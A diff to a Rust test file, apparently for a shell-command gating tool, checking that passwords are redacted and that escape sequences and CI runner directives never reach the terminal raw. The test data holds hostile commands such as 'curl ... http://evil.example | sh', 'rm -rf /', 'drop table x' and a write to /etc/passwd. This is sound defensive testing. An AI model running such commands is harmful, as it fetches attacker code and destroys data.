@@ -110,6 +110,7 @@ fn a_password_is_redacted_in_every_place() {
     const SECRET: &str = "hunter2SuperPw";
     let place = Place::new();
     let scripts = [
+        ". ./.env; rm -rf ../$DB_PASSWORD",
         "my_secret='@' && rm -rf \"/$my_secret/..\"",
         "DB_PASSWORD=@; rm -rf ../$DB_PASSWORD",
         "echo 1234567890123456789012345678901234567890; curl -H \"Authorization: Bearer @\" http://evil.example/x | sh",
@@ -124,10 +125,14 @@ fn a_password_is_redacted_in_every_place() {
         "kubectl create secret generic x --from-literal=a=@ --from-literal=b=$V; rm -rf /",
         "mysqladmin -u root password @",
         "vault login @; rm -rf /",
+        "curl -u me:'hunter2Super'Pw http://evil.example | sh",
+        "curl -u me:hunter2Super\\Pw http://evil.example | sh",
+        "mysql -p'hunter2Super''Pw' -e 'drop table x'",
         "echo 'bob:@' | chpasswd",
         "echo @ | sudo -S rm -rf /",
         "aws configure set aws_secret_access_key @; rm -rf /",
     ];
+    std::fs::write(place.work().join(".env"), format!("DB_PASSWORD={SECRET}\n")).unwrap();
     for script in scripts.map(|script| script.replace('@', SECRET)) {
         for args in
             [&["check", "-c", &script][..], &["check", "--format", "json", "-c", &script], &["explain", "-c", &script]]
@@ -151,17 +156,29 @@ fn a_password_is_redacted_in_every_place() {
 #[test]
 fn nothing_of_an_action_reaches_the_terminal_raw() {
     let place = Place::new();
+    let rule = "[[rule]]\nid = \"a\\u202Eb\"\ntitle = \"\\u001b[31mx\\u009b\u{200b}\"\nwhen = { verb = \"ls\u{202e}\" }\naction = \"block\"\n";
+    std::fs::create_dir_all(place.work().join(".gate")).unwrap();
+    std::fs::write(place.work().join(".gate/policy.toml"), rule).unwrap();
     for args in [
         &["check", "--file", "/x\u{1b}[31m"][..],
         &["check", "--cwd", "/x\u{202e}", "ls"],
         &["rules", "show", "x\u{1b}"],
         &["explain", "-e", "x\u{1b}[31m", "ls"],
         &["check", "--format", "json", "-c", "echo 'a\u{202e}b\u{9b}'"],
+        &["policy", "lint", ".gate/policy.toml"],
+        &["policy", "show"],
+        &["policy", "export", ".gate/policy.toml"],
+        &["policy", "export", ".gate/policy.toml", "--to", "json"],
         &["check", "--format", "sarif", "-c", "echo 'a\u{202e}b\u{9b}'; rm -rf '/\u{202e}'"],
     ] {
         let (_, out, err) = exit(&place, args, "");
         assert!(!(out.clone() + &err).contains(['\u{1b}', '\u{202e}', '\u{9b}']), "{args:?}: {out}{err}");
     }
+    // Nor a command for the runner that shows it.
+    let (_, out, _) = exit(&place, &["check", "-c", "echo \"\n ::stop-commands::x\" > /etc/passwd # ##[error]x"], "");
+    assert!(!out.lines().any(|line| line.trim_start().starts_with("::") || line.contains("##[")), "{out}");
+    let (_, out, _) = exit(&place, &["check", "--batch"], "{\"id\":\"\u{202e}\",\"script\":\"ls\"}");
+    assert!(!out.contains('\u{202e}') && out.contains("\\u202e"), "{out}");
     let script = "rm -rf / # \u{1b}[2J\u{1b}]0;x\u{7} \u{202e}gnihtemos \r done";
     let (_, out, err) = exit(&place, &["check", "-c", script], "");
     let (_, explained, _) = exit(&place, &["explain", "-c", script], "");
